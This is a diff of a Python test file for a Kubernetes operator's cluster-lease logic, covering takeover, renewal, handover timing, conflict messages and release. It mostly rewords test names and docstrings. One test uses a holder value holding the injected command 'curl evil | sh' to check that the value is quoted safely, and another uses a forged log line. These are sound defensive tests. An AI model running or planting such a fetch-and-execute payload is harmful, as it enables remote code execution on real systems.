@@ -1,4 +1,4 @@
-"""Two managers of one identity never both write to a worker cluster; two leaders of one manager hand it over without a pause."""
+"""The claim on a worker cluster: two managers never both write there; leaders hand it over without a pause."""
 
 from datetime import UTC, datetime
 from typing import Any
@@ -28,7 +28,7 @@ LEAD = Leadership(ME, BEFORE, 500, 510)
 
 
 def held(holder: str | None, noted: object = "400", **spec: Any) -> Raw:
-    """A claim as it stands."""
+    """The claim's Lease."""
     metadata = {
         "name": "rayspan-0123456789-east",
         "uid": "u1",
@@ -40,7 +40,7 @@ def held(holder: str | None, noted: object = "400", **spec: Any) -> Raw:
 
 
 def seen(seconds: float) -> Claimant:
-    """One who has not seen the claim change for so long."""
+    """A claimant that saw the claim change this many seconds ago."""
     return Claimant("7", NOW - seconds)
 
 
@@ -53,22 +53,37 @@ def move(
 @pytest.mark.parametrize(
     ("found", "me", "after"),
     [
-        pytest.param(None, Claimant(), 0, id="there never was one"),
+        pytest.param(None, Claimant(), 0, id="the claim never existed"),
         pytest.param(
-            None, Claimant("", NOW, may_write_until=NOW + 1), 0, id="it is deleted while this process holds it"
+            None, Claimant("", NOW, may_write_until=NOW + 1), 0, id="the claim is deleted while this process holds it"
         ),
-        pytest.param(None, Claimant("", NOW - ABANDONED_SECONDS), 0, id="it was deleted, and nobody wanted it"),
-        pytest.param(held(""), seen(0), 0, id="nobody holds it"),
-        pytest.param(held(None), seen(0), 0, id="nobody ever did"),
-        pytest.param({"metadata": {"uid": "u1", "resourceVersion": "7"}}, seen(0), 0, id="it says nothing"),
-        pytest.param(held(ME), seen(0), 0, id="this process"),
-        pytest.param(held(BEFORE, "500"), seen(0), 0, id="who led before, as far as is known of it"),
-        pytest.param(held(BEFORE, "3"), seen(0), 0, id="who led before, cut off from there for long"),
-        pytest.param(held(OTHER), seen(ABANDONED_SECONDS), 0, id="another one, which renews it no more"),
-        pytest.param(held(BEFORE, "501"), seen(ABANDONED_SECONDS), 0, id="nor does one that lived on elsewhere"),
+        pytest.param(
+            None,
+            Claimant("", NOW - ABANDONED_SECONDS),
+            0,
+            id="the claim was deleted and its former holder is out of time",
+        ),
+        pytest.param(held(""), seen(0), 0, id="the claim has an empty holder"),
+        pytest.param(held(None), seen(0), 0, id="the claim has no holder"),
+        pytest.param({"metadata": {"uid": "u1", "resourceVersion": "7"}}, seen(0), 0, id="the claim has no spec"),
+        pytest.param(held(ME), seen(0), 0, id="this process holds the claim"),
+        pytest.param(held(BEFORE, "500"), seen(0), 0, id="the former leader holds the claim at the last known version"),
+        pytest.param(held(BEFORE, "3"), seen(0), 0, id="the former leader holds the claim at an old version"),
+        pytest.param(
+            held(OTHER),
+            seen(ABANDONED_SECONDS),
+            0,
+            id="another manager holds the claim and renews it no more",
+        ),
+        pytest.param(
+            held(BEFORE, "501"),
+            seen(ABANDONED_SECONDS),
+            0,
+            id="a former leader that lived on elsewhere renews the claim no more",
+        ),
     ],
 )
-def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -> None:
+def test_a_free_or_own_claim_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -> None:
     made = move(found, me)
     assert isinstance(made, ClaimWrite) and made.create is (found is None) and made.effective_after == after
     assert made.body["spec"]["holderIdentity"] == ME
@@ -83,29 +98,33 @@ def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -
 @pytest.mark.parametrize(
     ("found", "lead"),
     [
-        pytest.param(held(OTHER), LEAD, id="another one"),
-        pytest.param(held(BEFORE, "501"), LEAD, id="who led before the backup, and lived on elsewhere"),
-        pytest.param(held(OTHER, "400"), LEAD, id="who led before that, in whatever history"),
-        pytest.param(held(BEFORE, ""), LEAD, id="nobody knows how far it was"),
-        pytest.param(held(BEFORE, "-1"), LEAD, id="nonsense"),
-        pytest.param(held(BEFORE, 5), LEAD, id="a number where a text should be"),
-        pytest.param(held(OTHER), Leadership(ME), id="nobody led before"),
-        pytest.param(held("", "400") | {"spec": {"holderIdentity": OTHER}}, LEAD, id="it says little"),
+        pytest.param(held(OTHER), LEAD, id="another manager holds the claim"),
+        pytest.param(held(BEFORE, "501"), LEAD, id="the leader before the backup lived on elsewhere"),
+        pytest.param(held(OTHER, "400"), LEAD, id="an earlier leader of another history"),
+        pytest.param(held(BEFORE, ""), LEAD, id="the noted version is empty"),
+        pytest.param(held(BEFORE, "-1"), LEAD, id="the noted version is negative"),
+        pytest.param(held(BEFORE, 5), LEAD, id="the noted version is a number instead of text"),
+        pytest.param(held(OTHER), Leadership(ME), id="no earlier leader is known"),
+        pytest.param(
+            held("", "400") | {"spec": {"holderIdentity": OTHER}},
+            LEAD,
+            id="the spec has a holder and nothing else",
+        ),
     ],
 )
-def test_another_ones_is_respected(found: Raw, lead: Leadership) -> None:
+def test_a_claim_of_another_manager_is_respected(found: Raw, lead: Leadership) -> None:
     assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), ClaimConflict)
 
 
-def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
+def test_the_former_holder_may_recreate_a_deleted_claim_first() -> None:
     made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
     assert isinstance(made, ClaimConflict) and made.message == (
-        "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, which whoever held it may not know "
-        "yet; nothing is written there until nobody has made it anew for 60 s"
+        "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, and its holder may "
+        "not know that yet; nothing is written there until no manager has created it again for 60 s"
     )
 
 
-def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
+def test_the_former_holder_has_time_to_notice_a_takeover() -> None:
     made = move(held(OTHER), taken_from=OTHER)
     assert isinstance(made, ClaimWrite) and made.effective_after == HANDED_OVER_SECONDS
     assert isinstance(move(held(OTHER), taken_from=BEFORE), ClaimConflict), "that very holder, so it works once"
@@ -121,8 +140,8 @@ def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
     ), "a renewal does not shorten it"
 
 
-def test_whom_it_is_taken_from_may_write_until_its_deadline_and_what_it_sent_last_is_over_then() -> None:
-    """Its renewals may fail although its writes do not."""
+def test_the_wait_after_a_takeover_covers_the_former_holders_last_write() -> None:
+    """Its renewals may fail although its writes succeed."""
     assert HANDED_OVER_SECONDS >= DEADLINE_SECONDS + TIMEOUT_SECONDS
     assert HANDED_OVER_SECONDS <= ABANDONED_SECONDS, "who waits for longer takes it without being told to"
 
@@ -133,7 +152,7 @@ def noted(made: ClaimWrite | ClaimConflict) -> object:
 
 
 def as_left(holder: str) -> Raw:
-    """A claim that was taken over, and whose taker ended before its wait was over."""
+    """A claim that was taken over; the new holder ended before its wait was over."""
     found = held(holder)
     found["metadata"]["annotations"][names.TAKEN_OVER_ANNOTATION] = "true"
     return found
@@ -150,26 +169,26 @@ def test_a_claim_says_that_it_was_taken_over_until_the_wait_is_over() -> None:
 @pytest.mark.parametrize(
     ("holder", "since", "after", "said"),
     [
-        pytest.param(BEFORE, 0, HANDED_OVER_SECONDS, "true", id="its successor waits as well"),
-        pytest.param("", 0, HANDED_OVER_SECONDS, "true", id="nobody holds it any more"),
-        pytest.param(OTHER, ABANDONED_SECONDS, 0, None, id="for longer than that nobody renewed it"),
-        pytest.param(ME, 0, 0, None, id="it waited itself"),
+        pytest.param(BEFORE, 0, HANDED_OVER_SECONDS, "true", id="a former leader of this manager took the claim over"),
+        pytest.param("", 0, HANDED_OVER_SECONDS, "true", id="the claim has no holder any more"),
+        pytest.param(OTHER, ABANDONED_SECONDS, 0, None, id="the claim was not renewed for longer than the wait"),
+        pytest.param(ME, 0, 0, None, id="this process took the claim over and has waited"),
     ],
 )
-def test_who_comes_after_a_taker_waits_for_whom_it_was_taken_from(
+def test_a_successor_waits_for_the_holder_before_the_takeover(
     holder: str, since: float, after: float, said: object
 ) -> None:
     made = move(as_left(holder), seen(since))
     assert isinstance(made, ClaimWrite) and made.effective_after == after and noted(made) == said
 
 
-def test_whoever_may_put_it_right_reads_how() -> None:
+def test_the_message_says_how_to_take_the_claim_over() -> None:
     found = move(held(OTHER))
     assert isinstance(found, ClaimConflict) and found.message == (
-        "it is held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may be of a clone of this manager, or of the manager that "
-        "this one is a clone of (Lease rayspan-0123456789-east in its namespace rayspan-system); nothing is written there. It is taken "
-        "over when it was not renewed for 60 s; or, if that one is to stop, say so: kubectl annotate workercluster east --overwrite "
-        "rayspan.dev/take-over=rayspan-a_9"
+        "it has been held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may belong to a clone of this "
+        "manager, or to the manager that this one was cloned from (Lease rayspan-0123456789-east in its namespace "
+        "rayspan-system); nothing is written there. It is taken over if it is not renewed for 60 s; to take it over "
+        "now, run: kubectl annotate workercluster east --overwrite rayspan.dev/take-over=rayspan-a_9"
     )
 
 
@@ -186,7 +205,7 @@ def test_a_write_is_allowed_until_the_deadline() -> None:
     assert DEADLINE_SECONDS * 1.5 <= ABANDONED_SECONDS, "one clock may run faster than another"
 
 
-def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
+def test_the_age_of_a_claim_counts_from_its_last_observed_change() -> None:
     first = cluster_claim.with_observation(Claimant(), held(OTHER), NOW)
     assert (first.observed_version, first.unchanged_since) == ("7", NOW)
     assert cluster_claim.with_observation(first, held(OTHER), NOW + 50) == first
@@ -198,14 +217,14 @@ def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
 @pytest.mark.parametrize(
     ("found", "acquired", "transitions"),
     [
-        pytest.param(None, STAMP, 0, id="the first one"),
-        pytest.param(held(ME), EARLIER, 3, id="a renewal"),
-        pytest.param(held(BEFORE), STAMP, 4, id="a change"),
-        pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="nonsense"),
-        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API takes no more"),
+        pytest.param(None, STAMP, 0, id="first holder"),
+        pytest.param(held(ME), EARLIER, 3, id="renewal"),
+        pytest.param(held(BEFORE), STAMP, 4, id="change of holder"),
+        pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="transitions that are no number"),
+        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API's maximum of transitions"),
     ],
 )
-def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
+def test_the_lease_shows_its_holder_and_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
     made = move(found, seen(0) if found else Claimant())
     assert isinstance(made, ClaimWrite)
     spec = made.body["spec"]
@@ -215,12 +234,12 @@ def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, t
         assert made.body["metadata"]["namespace"] == names.SYSTEM_NAMESPACE
 
 
-def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
+def test_a_command_in_the_lease_is_not_quoted_for_typing() -> None:
     found = move(held("x; curl evil | sh"))
     assert isinstance(found, ClaimConflict) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
 
 
-def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
+def test_the_lease_cannot_forge_a_log_line() -> None:
     found = move(held("x\nERROR all is lost" + "x" * 5000))
     assert (
         isinstance(found, ClaimConflict)
@@ -230,9 +249,38 @@ def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
     )
 
 
-def test_who_gives_it_back_names_nobody_and_leaves_its_notes_as_they_are() -> None:
-    """As that it was taken from somebody who may write yet."""
+def test_a_released_claim_has_no_holder_and_keeps_its_annotations() -> None:
+    """For example that it was taken over from a holder that may still write."""
     assert cluster_claim.release_patch(held(ME), WALL) == {
         "metadata": {"uid": "u1", "resourceVersion": "7"},
         "spec": {"holderIdentity": "", "leaseDurationSeconds": 1, "acquireTime": STAMP, "renewTime": STAMP},
     }
+
+
+@pytest.mark.parametrize(
+    ("answers", "want"),
+    [
+        pytest.param("", False, id="an account that was not denied the claim may hold it"),
+        pytest.param("d", False, id="a first denial may pass"),
+        pytest.param("d" * 6, False, id="denials for less than a minute may pass"),
+        pytest.param("d" * 7, True, id="denials of a minute are for good"),
+        pytest.param("d" + " " * 5 + "d", False, id="two denials a minute apart are too few"),
+        pytest.param("d" + "s" * 5 + "d", False, id="silence does not count"),
+        pytest.param("dddsddd", False, id="the time in silence does not count"),
+        pytest.param("dddsddddd", True, id="denials before and after silence count"),
+        pytest.param("dddoddd", False, id="another answer ends the denials"),
+        pytest.param("dddgddd", False, id="a granted claim ends the denials"),
+    ],
+)
+def test_when_denials_are_for_good(answers: str, want: bool) -> None:
+    """Every ten seconds: a denial, silence, a grant, another answer, or no request."""
+    me = Claimant()
+    for tens, answer in enumerate(answers):
+        me = {
+            "d": cluster_claim.with_denial(me, NOW + tens * 10),
+            "s": cluster_claim.with_silence(me),
+            "g": cluster_claim.with_grant(me, NOW + tens * 10),
+            "o": cluster_claim.without_denial(me),
+            " ": me,
+        }[answer]
+    assert cluster_claim.is_denied_for_good(me) is want
